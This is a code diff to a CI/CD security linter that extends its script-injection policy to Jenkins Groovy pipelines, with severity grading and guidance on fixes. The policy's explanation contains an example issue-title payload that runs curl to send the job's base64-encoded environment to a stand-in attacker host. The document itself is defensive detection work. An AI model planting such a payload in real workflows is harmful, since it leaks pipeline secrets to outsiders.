@@ -16,6 +16,10 @@ import { PRIVILEGED_EVENTS } from "../../platforms/github-actions/privileged-eve
 import { secretsInReach } from "../../platforms/github-actions/secrets-in-reach.ts";
 import { permissionsOf, tokenAccess } from "../../platforms/github-actions/token.ts";
 import { injectionsIn as evaluatedIn } from "../../platforms/gitlab-ci/injections.ts";
+import {
+  type Injection as GroovyInjection,
+  injectionsIn as groovyInjections,
+} from "../../platforms/jenkins/injections.ts";
 import { definePolicy } from "../define-policy.ts";
 import { onePerPlace } from "../one-per-place.ts";
 import { isJobToken, namesSecret, secretName } from "../secret-like.ts";
@@ -25,8 +29,8 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, and Groovy on Jenkins with `sh "… ${env.CHANGE_TITLE}"`. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. On Jenkins write the script in single quotes, `sh \'echo "$CHANGE_TITLE"\'`, and put a parameter into the environment first (`withEnv`). Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -37,11 +41,12 @@ export const secretInInjectableStep = definePolicy({
       "https://docs.gitlab.com/ci/variables/#cicd-variable-security",
       "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
       "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs",
+      "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation",
     ],
     practices: ["P5"],
     cwe: [94, 78],
   },
-  platforms: ["azure-pipelines", "circleci", "github-actions", "gitlab-ci"],
+  platforms: ["azure-pipelines", "circleci", "github-actions", "gitlab-ci", "jenkins"],
   examples: {
     flag: [
       {
@@ -344,6 +349,7 @@ export const secretInInjectableStep = definePolicy({
   check({ model, flows }) {
     if (model.kind === "circleci") return onePerPlace(filledIn(model, flows).map(matchOfFilledIn));
     if (model.kind === "azure") return onePerPlace(azureInjections(model, flows).map((one) => azureMatch(flows, one)));
+    if (model.kind === "jenkins") return onePerPlace(groovyInjections(model, flows).map(groovyMatch));
     if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
     return onePerPlace(
       evaluatedIn(model, flows).map(({ place, name, by, script }) => {
@@ -374,6 +380,20 @@ function matchOfFilledIn({ place, path, author, by, script }: FilledIn): PolicyM
   const [beside, alone] = GRADES[author];
   const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
   const message = `The text of ${path} ${how}, and ${CHOOSERS[author]} chooses it.`;
+  return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
+}
+
+/** Jenkins builds the requests of strangers only where its settings let them, and asks who may start a build. */
+const GROOVY_GRADES: Readonly<Record<GroovyInjection["author"], readonly [beside: Severity, alone: Severity]>> = {
+  ...GRADES,
+  starter: ["medium", "low"],
+};
+
+function groovyMatch({ place, path, author, script }: GroovyInjection): PolicyMatch {
+  const secret = script.secrets.find((one) => !isJobToken(one));
+  const [beside, alone] = GROOVY_GRADES[author];
+  const chooser = author === "starter" ? "whoever starts the build" : CHOOSERS[author];
+  const message = `Groovy makes the text of ${path} part of the script, and ${chooser} chooses it.`;
   return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
 }
 
